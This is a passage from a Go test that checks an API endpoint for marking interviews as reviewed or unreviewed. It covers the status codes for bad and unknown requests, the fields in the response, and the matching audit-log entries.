	editor := newToken(t, e.srv.acct, e.team.ID, "editor")
	if rec := api(editor, second.ID, `{}`); rec.Code != http.StatusBadRequest {
		t.Fatalf("a review body without reviewed: got %d", rec.Code)
	}
	if rec := api(editor, "nobody", `{"reviewed": true}`); rec.Code != http.StatusNotFound {
		t.Fatalf("reviewing an unknown interview: got %d", rec.Code)
	}
	rec = api(editor, second.ID, `{"reviewed": true}`)
	var got struct {
		ID         string    `json:"interview_id"`
		FromLink   bool      `json:"from_link"`
		Reviewed   bool      `json:"reviewed"`
		ReviewedBy string    `json:"reviewed_by"`
		ReviewedAt time.Time `json:"reviewed_at"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &got); rec.Code != http.StatusOK || err != nil {
		t.Fatalf("API review: got %d %s (%v)", rec.Code, rec.Body.String(), err)
	}
	if got.ID != second.ID || !got.FromLink || !got.Reviewed || got.ReviewedBy == "" || got.ReviewedAt.IsZero() {
		t.Fatalf("API review answered %+v", got)
	}
	rec = api(editor, second.ID, `{"reviewed": false}`)
	if rec.Code != http.StatusOK || strings.Contains(rec.Body.String(), "reviewed_at") || !strings.Contains(rec.Body.String(), `"reviewed": false`) {
		t.Fatalf("API back to review: got %d %s", rec.Code, rec.Body.String())
	}

	log, err := e.srv.acct.Audit(context.Background(), e.team.ID, 5)
	if err != nil {
		t.Fatal(err)
	}
	if len(log) < 3 || log[0].Action != "unreview interview" || log[1].Action != "review interview" || log[2].Action != "review interview" ||
		!strings.Contains(log[2].Actor, e.sess.user.Name) || !strings.Contains(log[2].Target, first.ID) || !strings.Contains(log[1].After, "API token") {
		t.Fatalf("audit log = %+v", log[:min(len(log), 3)])
	}
}
